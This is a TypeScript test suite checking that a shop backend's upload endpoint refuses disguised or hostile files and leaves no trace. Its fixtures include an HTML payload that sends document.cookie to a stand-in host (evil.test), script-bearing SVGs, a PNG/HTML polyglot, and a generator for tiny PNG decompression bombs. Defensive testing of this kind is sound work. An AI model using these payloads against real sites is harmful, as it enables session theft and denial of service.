import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectNoLeak, expectRefused, PEOPLE, startShopUnderAttack, type Reply, type ShopUnderAttack } from './inputAttack';

let shop: ShopUnderAttack;
let before: Record<string, unknown[]>;
let filesBefore: Record<string, number>;
const { shopper } = PEOPLE;
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A well-formed PNG of a few dozen bytes whose header claims width x height grey pixels (its data stops after one row). */
function claimedPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

async function upload(bytes: Uint8Array, name: string, type: string): Promise<Reply> {
  const form = new FormData();
  form.set('file', new File([bytes as BlobPart], name, { type }));
  const response = await fetch(`${shop.backend.baseUrl}/uploads`, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${await shop.backend.tokenFor(shopper)}` },
  });
  const text = await response.text();
  return { status: response.status, text, headers: response.headers, body: JSON.parse(text) };
}

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
const HTML = '<!doctype html><html><body><script>fetch("https://evil.test/?c="+document.cookie)</script></body></html>';

beforeAll(async () => {
  shop = await startShopUnderAttack();
  before = await shop.snapshot();
  filesBefore = await shop.uploadedFiles();
}, 60_000);
afterAll(() => shop.close());

/** No row changed and no file was left in the uploads folder, not even a partial one. */
async function expectNothingChanged() {
  expect(await shop.snapshot()).toEqual(before);
  expect(await shop.uploadedFiles()).toEqual(filesBefore);
}

describe('uploads that lie or overwhelm', () => {
  it.each([
    ['HTML with script named .png, sent as image/png', HTML, 'avatar.png', 'image/png'],
    ['SVG with script named .png, sent as image/png', SVG, 'avatar.png', 'image/png'],
    ['SVG with script named .svg', SVG, 'avatar.svg', 'image/svg+xml'],
    ['SVG behind an XML prolog named .jpg', `<?xml version="1.0"?>${SVG}`, 'avatar.jpg', 'image/jpeg'],
    ['JavaScript named .jpeg', 'alert(document.cookie)', 'avatar.jpeg', 'image/jpeg'],
    ['a GIF named .png', 'GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;', 'avatar.png', 'image/png'],
  ])('%s is refused as not an image (400 naming file), and no row or file changes', async (_, content, name, type) => {
    const reply = await upload(new TextEncoder().encode(content), name, type);
    expectRefused(reply, 400, 'file');
    expect(reply.body.url).toBeUndefined();
    await expectNothingChanged();
  });

  it('a PNG signature followed by HTML (a polyglot) is refused as unreadable (400 naming file)', async () => {
    const reply = await upload(Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]), 'avatar.png', 'image/png');
    expectRefused(reply, 400, 'file');
    await expectNothingChanged();
  });

  it('a file over 5 MB, image signature and all, is 413', async () => {
    const reply = await upload(Buffer.concat([PNG_SIGNATURE, Buffer.alloc(5 * 1024 * 1024)]), 'huge.png', 'image/png');
    expectRefused(reply, 413);
    await expectNothingChanged();
  });

  it.each([
    [50_000, 50_000],
    [1_000_000, 60],
    [8000, 7000],
  ])('a PNG of %s x %s px in a few bytes (a decompression bomb) is 413 naming file, at once', async (width, height) => {
    const bomb = claimedPng(width, height);
    expect(bomb.byteLength).toBeLessThan(200);
    expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width, height });
    const started = Date.now();
    const reply = await upload(bomb, 'tiny.png', 'image/png');
    expectRefused(reply, 413, 'file');
    expect(Date.now() - started).toBeLessThan(2000);
    await expectNothingChanged();
  });

  it('a PNG just under the pixel limit whose data is cut short is refused as unreadable (400), not decoded into an error page', async () => {
    const reply = await upload(claimedPng(7000, 7000), 'tiny.png', 'image/png');
    expectRefused(reply, 400, 'file');
    await expectNothingChanged();
  });

  it('an upload that is not multipart, or has no file, is a 400 and never a 5xx, and no row or file changes', async () => {
    const token = await shop.backend.tokenFor(shopper);
    const json = await shop.call('post', '/uploads', { as: shopper, body: { file: HTML } });
    expectNoLeak(json);
    expect(json.status).toBe(400);
    const empty = await fetch(`${shop.backend.baseUrl}/uploads`, {
      method: 'POST',
      body: new FormData(),
      headers: { authorization: `Bearer ${token}` },
    });
    expect(empty.status).toBe(400);
    await expectNothingChanged();
  });
});
